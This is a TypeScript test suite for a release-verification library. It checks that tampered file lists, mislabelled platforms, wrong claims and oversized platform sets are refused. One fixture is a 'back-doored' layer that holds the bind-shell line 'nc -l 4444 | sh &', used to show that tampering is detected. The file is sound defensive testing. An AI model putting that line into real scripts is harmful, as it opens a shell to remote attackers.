import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { seededRandom } from '@seaworthy/std/random'
import { Refusal } from '@seaworthy/std/refusal'
import { ManualClock } from '@seaworthy/std/time'
import type { FileEntry, FileList } from './bundle/file-list.ts'
import { encodeFileList } from './bundle/file-list.ts'
import type { ContentSource } from './content.ts'
import { storeContent } from './content.ts'
import { digestHex, digestOf } from './digests.ts'
import { parseRelease, releaseAnnotations } from './release-index.ts'
import {
  computeBundleFiles,
  describeListLie,
  readReleaseOutline,
  requireClaims,
  verifyReleaseContent,
} from './release-content.ts'
import { createMemoryStore } from './store/memory.ts'
import type { CraftedBundle, CraftedFile } from './crafted-release.ts'
import { craftLayer, craftRelease } from './crafted-release.ts'
import { unusableReleases } from './unusable-releases.ts'

const platform = 'linux/amd64'

async function craft(...bundles: CraftedBundle[]) {
  const store = createMemoryStore({ clock: new ManualClock(new Date(0)), random: seededRandom(2) })
  const source = storeContent(store, 'web')
  const index = await craftRelease(source, { product: 'web', version: '1.0', bundles })
  return { source, index, digest: index.descriptor.digest }
}

async function verify({
  source,
  digest,
}: { source: ContentSource } & Pick<Awaited<ReturnType<typeof craft>>, 'digest'>) {
  await verifyReleaseContent(source, await readReleaseOutline(source, digest))
}

const refused = (code: string) => (error: unknown) => {
  assert.ok(error instanceof Refusal, String(error))
  assert.equal(error.code, code, error.message)
  return true
}

const honest = craftLayer([
  { path: 'bin/app', content: '#!/bin/sh\n', isExecutable: true },
  { path: 'seaworthy.json', content: '{"start":["./bin/app"]}' },
])
const backDoored = craftLayer([
  { path: 'bin/app', content: '#!/bin/sh\nnc -l 4444 | sh &\n', isExecutable: true },
  { path: 'seaworthy.json', content: '{"start":["./bin/app"]}' },
])

it('T11 a layer that two platforms share has the size that each of them says', async () => {
  const { source, digest } = await craft(
    { platform, layer: honest.layer, listed: honest.files },
    { platform: 'linux/arm64', layer: honest.layer, listed: honest.files },
  )
  const outline = await readReleaseOutline(source, digest)
  await verifyReleaseContent(source, outline)
  const platforms = outline.platforms.map((one, i) =>
    one.kind === 'bundle' && i === 1
      ? { ...one, layer: { ...one.layer, size: one.layer.size + 1 } }
      : one,
  )
  await assert.rejects(verifyReleaseContent(source, { ...outline, platforms }))
})

describe('T11 what a device would refuse for good is refused before it is signed', () => {
  for (const { name, code, put } of unusableReleases) {
    it(`${code}: ${name}`, async () => {
      const { source } = await craft()
      const { bytes, descriptor } = await put(source)
      const check = async () => {
        const outline = await readReleaseOutline(source, descriptor.digest)
        requireClaims(outline, { ...claimsOf(bytes), platforms: [platform] })
        await verifyReleaseContent(source, outline)
      }
      await assert.rejects(check(), refused(code))
    })
  }
})

const claimsOf = (index: Uint8Array) => ({
  product: 'web',
  version: '1.0',
  kind: 'bundle',
  length: index.length,
  sha512: digestHex(digestOf(index, 'sha512')),
})

describe('T11 a release is what its content is, whatever is written beside it', () => {
  it('a back-doored layer beside the honest list is file_list_mismatch, and the lie is named', async () => {
    await verify(await craft({ platform, layer: honest.layer, listed: honest.files }))
    const lying = await craft({ platform, layer: backDoored.layer, listed: honest.files })
    await assert.rejects(verify(lying), refused('file_list_mismatch'))
    const [bundle] = (await readReleaseOutline(lying.source, lying.digest)).platforms
    assert.ok(bundle?.kind === 'bundle')
    const { files } = await computeBundleFiles(lying.source, bundle)
    assert.deepEqual(files, backDoored.files)
    assert.match(
      (await describeListLie(lying.source, bundle.list!, files)) ?? '',
      /^it says "bin\/app" with 10 bytes, .* the layer holds "bin\/app" with 28 bytes/,
    )
  })

  it('a list that is left out, filed under another name, twice, for another bundle, or in another form is refused', async () => {
    const good = { platform, layer: honest.layer, listed: honest.files }
    const other = { mediaType: 'application/x', digest: digestOf(Buffer.from('other')), size: 5 }
    const lies: CraftedBundle[][] = [
      [{ platform, layer: honest.layer }],
      [{ ...good, filedUnder: '..' }],
      [{ ...good, filedUnder: 'linux/arm64' }],
      [good, { ...good, platform: 'linux/arm64', filedUnder: platform }],
      [good, { ...good, platform: 'linux/arm64', filedUnder: '../../x' }],
      [{ ...good, subject: other }],
      [{ ...good, listed: Buffer.from('{"format":"seaworthy-files-v1","entries":[]}') }],
      [{ ...good, listed: Buffer.from('no list at all') }],
      [{ ...good, listed: Buffer.concat([encodeFileList(honest.files), Buffer.from(' ')]) }],
      [{ ...good, annotations: { [releaseAnnotations.unpackedSize]: '1' } }],
    ]
    for (const bundles of lies) {
      await assert.rejects(verify(await craft(...bundles)), refused('file_list_mismatch'))
    }
    const swapped = { [releaseAnnotations.platform]: 'linux/arm64' }
    await assert.rejects(
      verify(await craft({ ...good, annotations: swapped })),
      refused('release_malformed'),
    )
  })

  it('only the name of a platform leads to a file list', async () => {
    const crafted = await craft({
      platform,
      layer: honest.layer,
      listed: honest.files,
      filedUnder: '..',
    })
    const { fileLists, fileListFaults } = parseRelease(crafted.index.bytes)
    assert.deepEqual([...fileLists.keys()], [])
    assert.equal(fileListFaults.length, 1)
    for (const os of ['..', 'linux\u202e', 'linux/x/y/z', '']) {
      const text = Buffer.from(crafted.index.bytes)
        .toString()
        .replace('"os":"linux"', `"os":${JSON.stringify(os)}`)
      assert.throws(() => parseRelease(Buffer.from(text)), refused('release_malformed'))
    }
  })

  it('a layer that is no bundle, and one that lies elsewhere, are refused', async () => {
    const layer = Buffer.from('not a bundle')
    await assert.rejects(
      verify(await craft({ platform, layer, listed: honest.files })),
      refused('zstd_damaged'),
    )
  })

  it('what is to be signed must be what index and manifests say, member by member', async () => {
    const { source, index, digest } = await craft({
      platform,
      layer: honest.layer,
      listed: honest.files,
    })
    const outline = await readReleaseOutline(source, digest)
    const claims = {
      product: 'web',
      version: '1.0',
      kind: 'bundle',
      platforms: [platform],
      length: index.bytes.length,
      sha512: digestHex(digestOf(index.bytes, 'sha512')),
    }
    requireClaims(outline, claims)
    for (const lie of [
      { product: 'kiosk' },
      { version: '1.1' },
      { kind: 'container' },
      { platforms: [platform, 'linux/arm64'] },
      { platforms: ['linux/arm64'] },
      { length: claims.length + 1 },
      { sha512: claims.sha512.replace(/^./, (c) => (c === '0' ? '1' : '0')) },
    ]) {
      assert.throws(
        () => requireClaims(outline, { ...claims, ...lie }),
        refused('release_mismatch'),
      )
    }
  })

  it('any change of any list of any tree is refused, and the true list is not (property)', async () => {
    const name = fc.constantFrom('a', 'b', 'lib/a', 'lib/b', 'lib/x/c', 'größe', 'bin/d')
    const files: fc.Arbitrary<CraftedFile[]> = fc.uniqueArray(
      fc.record({
        path: name,
        content: fc.string({ maxLength: 2000 }),
        isExecutable: fc.boolean(),
      }),
      { minLength: 1, selector: ({ path }) => path },
    )
    await fc.assert(
      fc.asyncProperty(files, fc.nat(), fc.nat(5), async (tree, at, how) => {
        const { layer, files: truth } = craftLayer(tree)
        await verify(await craft({ platform, layer, listed: truth }))
        const listed = lieAbout(truth, at, how)
        await assert.rejects(
          verify(await craft({ platform, layer, listed })),
          refused('file_list_mismatch'),
        )
      }),
      { numRuns: 60 },
    )
  })
})

/** A list that differs from the truth in one detail. */
function lieAbout({ entries }: FileList, at: number, how: number): FileList {
  const index = at % entries.length
  const entry = entries[index]!
  const replace = (other: FileEntry) => ({ entries: entries.with(index, other) })
  if (how === 0) return { entries: entries.toSpliced(index, 1) }
  const link: FileEntry = { type: 'symlink', path: entry.path, target: 'x' }
  if (how === 1 || entry.type !== 'file') return replace(link)
  if (how === 2) return replace({ ...entry, size: entry.size + 1 })
  if (how === 3) return replace({ ...entry, mode: entry.mode === '0755' ? '0644' : '0755' })
  if (how === 4) return replace({ ...entry, sha256: 'f'.repeat(64) })
  return { entries: [...entries, { ...entry, path: 'zz' }] }
}

describe('T11 T9 attack: a release with thousands of platforms', () => {
  const many = (count: number): Promise<Awaited<ReturnType<typeof craft>>> => {
    const one = { platform, layer: honest.layer }
    return craft(...Array.from({ length: count }, (_, i) => ({ ...one, platform: `linux/a${i}` })))
  }

  it('is refused before a manifest of it is read', async () => {
    for (const [count, refusal] of [
      [65, /for 65 platforms, and at most 64/],
      [4000, /for 4000 platforms/],
    ] as const) {
      const { source, digest } = await many(count)
      const read: string[] = []
      const counting: ContentSource = {
        ...source,
        readManifest: (wanted) => {
          read.push(wanted)
          return source.readManifest(wanted)
        },
      }
      await assert.rejects(readReleaseOutline(counting, digest), (error) => {
        assert.match((error as Error).message, refusal)
        return refused('release_malformed')(error)
      })
      assert.deepEqual(read, [digest])
    }
  })

  it('is refused when its entries are for no platform', async () => {
    const { source } = await craft()
    const { descriptor } = await craftRelease(source, {
      product: 'web',
      version: '1.0',
      bundles: [{ platform, layer: honest.layer, listed: honest.files }],
      alter: (index) => {
        const { mediaType, digest, size } = index.manifests[0]!
        const others = Array.from({ length: 600 }, () => ({ mediaType, digest, size }))
        return { ...index, manifests: [...index.manifests, ...others] }
      },
    })
    await assert.rejects(readReleaseOutline(source, descriptor.digest), /602 entries/)
  })

  it('at most as many platforms as are taken, all of one manifest, read it once', async () => {
    const { source, digest } = await many(64)
    const reads = new Map<string, number>()
    const counting: ContentSource = {
      ...source,
      readManifest: (wanted) => {
        reads.set(wanted, (reads.get(wanted) ?? 0) + 1)
        return source.readManifest(wanted)
      },
    }
    const outline = await readReleaseOutline(counting, digest)
    assert.equal(outline.platforms.length, 64)
    assert.deepEqual([...reads.values()], [1, 1])
    // Nobody reads a sentence of 64 faults.
    await assert.rejects(verifyReleaseContent(source, outline), /; and 54 more$/)
  })
})
